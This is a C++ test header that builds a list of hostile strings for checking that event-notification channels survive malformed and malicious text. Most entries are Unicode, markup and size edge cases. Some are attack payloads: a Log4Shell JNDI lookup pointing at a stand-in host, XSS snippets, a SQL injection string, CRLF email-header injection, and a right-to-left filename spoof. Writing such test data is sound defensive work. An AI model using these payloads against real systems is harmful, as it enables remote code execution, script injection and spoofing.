// tocsin/testing/hostile_texts.hpp - texts that an attacker, a scanner or plain bad luck puts into an event.
//
// Why: every channel must carry them without breaking its payload or a limit. What it does not do: hold
// invalid UTF-8, since the host refuses such an event.
#pragma once

#include <string>
#include <vector>

namespace tocsin::testing {

inline std::string repeat(const std::string& text, std::size_t times) {
  std::string out;
  out.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

inline std::vector<std::string> hostile_texts() {
  return {// markup of the platforms
          "<!channel> <!here> <@U012AB3CD> <#C012AB3CD>", "<https://evil.example|https://bank.example>",
          "*b* _i_ ~s~ `c` ```code```", "[click](https://evil.example)", "![x](https://evil.example/x.png)",
          "<at>Everyone</at>", "{{DATE(2026-11-23T08:00:00Z,SHORT)}}", "{{TIME(2026-11-23T08:00:00Z)}}",
          "${jndi:ldap://evil.example/a}", "{{{title}}} {{#events}}{{/events}}", "- item\n1. item\n# head",
          "&amp; &lt;b&gt; &#x3C;", "&", "<", ">", "<<<>>>&&&",
          // other people's languages
          "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
          "javascript:alert(1)", "' OR 1=1 --", "\"quoted\" \\back\\slash\\ \\u0041",
          "\\\"}],\"text\":\"injected\"", "]}}\n{\"type\":\"x\"}", "%0d%0aBcc: evil@example.com",
          "=?utf-8?B?SGVsbG8=?=", "a\r\nBcc: evil@example.com", "line\nline\n.\nline",
          "\r\n.\r\nMAIL FROM:<evil@example.com>", "Subject: x\n\nbody", "\x1b[31mred\x1b[0m\x07\x08",
          std::string("nul\0byte", 8), "del\x7f c1\u0085\u009b", "tab\tand\vvertical\fform",
          // directions and shapes
          "\u202Egnp.exe", "\u2066\u2067\u2068 unclosed", "עברית ואנגלית mixed \u200Fmark", "مرحبا بالعالم",
          "\uFEFFbom", "zero\u200Bwidth\u200Cjoin\u200Ders", "\u2028line\u2029paragraph",
          "👩‍👩‍👧‍👦👨🏽‍💻🏳️‍🌈🇩🇪🇫🇷", repeat("🇩🇪", 5000),
          repeat("👨‍👩‍👧‍👦", 3000), "a" + repeat("\u0301", 20000),
          repeat("Z\u0351\u036B\u0343", 5000), "ﷺ" + repeat("﷽", 4000), "重大な検出結果：公開バケット",
          repeat("漢", 40000),
          // sizes
          "", " ", "\n", repeat("x", 100000), repeat("word ", 20000), repeat("&", 50000),
          repeat("<>&", 20000), repeat("\"", 50000), repeat("\\", 50000), repeat("\n", 30000),
          repeat("a\n", 30000), std::string(149, 'x') + "é", std::string(149, 'x') + "👍🏽",
          std::string(2899, 'y') + "&&&&", "U+FFFF \uFFFF and U+10FFFF \U0010FFFF",
          repeat("https://example.com/" + std::string(200, 'p') + " ", 300)};
}

}  // namespace tocsin::testing
